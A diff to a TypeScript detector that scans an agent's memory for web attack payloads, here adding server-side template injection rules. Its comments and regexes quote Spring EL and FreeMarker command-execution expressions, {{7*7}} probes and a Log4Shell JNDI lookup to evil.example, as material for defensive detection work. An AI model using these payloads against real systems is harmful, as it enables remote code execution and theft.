@@ -1,13 +1,14 @@
 /**
  * Payloads aimed at the programs a memory flows into rather than at the agent: script injected into HTML (a memory
- * shown in a web page runs it), SQL that breaks out of a quoted value, and JNDI lookups that a logging library resolves
- * (Log4Shell). The shapes are the attack's own, not the technology's: a page's `<script src="https://cdn…">`, a
+ * shown in a web page runs it), SQL that breaks out of a quoted value, template expressions that a server-side
+ * renderer evaluates (SSTI), and JNDI lookups that a logging library resolves (Log4Shell). The shapes are the attack's own, not the technology's: a page's `<script src="https://cdn…">`, a
  * consent banner that sets `document.cookie`, `href="javascript:void(0)"` or an ordinary `SELECT … WHERE name = 'x'`
  * pass; a script that sends the cookie away, a handler that pops `alert(1)`, `' OR '1'='1` and `'; DROP TABLE` do not.
  *
  * Severity: `high` for what takes something or changes something (the cookie read and sent, code decoded and run, a
- * remote script after an attribute is closed, a stacked destructive statement, `xp_cmdshell`, a JNDI lookup);
- * `medium` for the probes that only show the hole (`alert(1)`, a tautology, `UNION SELECT`, a timed sleep). Beside
+ * remote script after an attribute is closed, a stacked destructive statement, `xp_cmdshell`, a template expression
+ * that reaches the process API, a JNDI lookup); `medium` for the probes that only show the hole (`alert(1)`, a
+ * tautology, `UNION SELECT`, a timed sleep, `{{7*7}}`). Beside
  * words of a lesson, a test or a report ("example", "payload", "sanitize", "blocked", "CVE-…") it is a level lower,
  * two when it is quoted or in backticks: an example shown or a value a WAF logged.
  */
@@ -87,6 +88,23 @@ const PAYLOADS: WebPayload[] = [
     gate: (body) => SQL_GATE.test(body),
   },
   {
+    // ${T(java.lang.Runtime).getRuntime().exec('id')} (Spring EL), <#assign ex="freemarker.template.utility.Execute"?new()>
+    // (FreeMarker), #set($rt = $x.class.forName("java.lang.Runtime")) (Velocity): a template expression that reaches the
+    // process API of the server that renders it
+    re: /[$#*]\{[^{}]{0,40}\bT\s*\(\s*java\.lang\.(?:Runtime|ProcessBuilder)\s*\)|["']freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)["']\s*\?\s*new\s*\(|\bforName\s*\(\s*["']java\.lang\.(?:Runtime|ProcessBuilder)["']\s*\)/g,
+    severity: 'high',
+    what: 'a template expression that runs a command on the server rendering it',
+    gate: (body) => body.includes('java.lang') || body.includes('freemarker'),
+  },
+  {
+    // {{7*7}}, ${7*7}, #{7*7}, <%= 7*7 %>, {{7*'7'}}, @(7*7): a number times itself in a template's delimiters, the probe
+    // that shows a renderer evaluates what it is given (a template's own arithmetic multiplies names: {{ price * qty }})
+    re: /(?:\{\{=?|\$\{\{?|#\{|\*\{|<%=?|@\()\s*(\d{1,6})\s*\*\s*(['"]?)\1\2\s*(?:\}\}?|%>|\))/g,
+    severity: 'medium',
+    what: 'a template injection probe',
+    gate: (body) => body.includes('*'),
+  },
+  {
     // ${jndi:ldap://evil.example/a}, ${${lower:j}ndi:rmi://…}: a lookup that Log4j resolves and loads code from (not a
     // Spring placeholder with a default, `${server.url:http://localhost:8080}`)
     re: /\$\{jndi:|\$\{(?=[jndi]{0,3}\$\{)(?:\$\{[^}]{0,30}\}|[jndi]){2,12}:(?:\$\{[^}]{0,30}\}|[a-z]){2,10}:\/\//gi,
@@ -109,7 +127,7 @@ function quotedOnLine(text: string, start: number): boolean {
 /** The web payloads in one chunk, lower where a lesson, a test or a log shows them. */
 export function webPayloadHits(chunk: Chunk, text: string): RuleHit[] {
   const body = text.slice(chunk.start, chunk.end)
-  if (!/[<'"$]|javascript:/i.test(body)) return []
+  if (!/[<'"${]|javascript:|@\(/i.test(body)) return []
   const hits: RuleHit[] = []
   const taken: Array<[number, number]> = []
   for (const payload of PAYLOADS) {
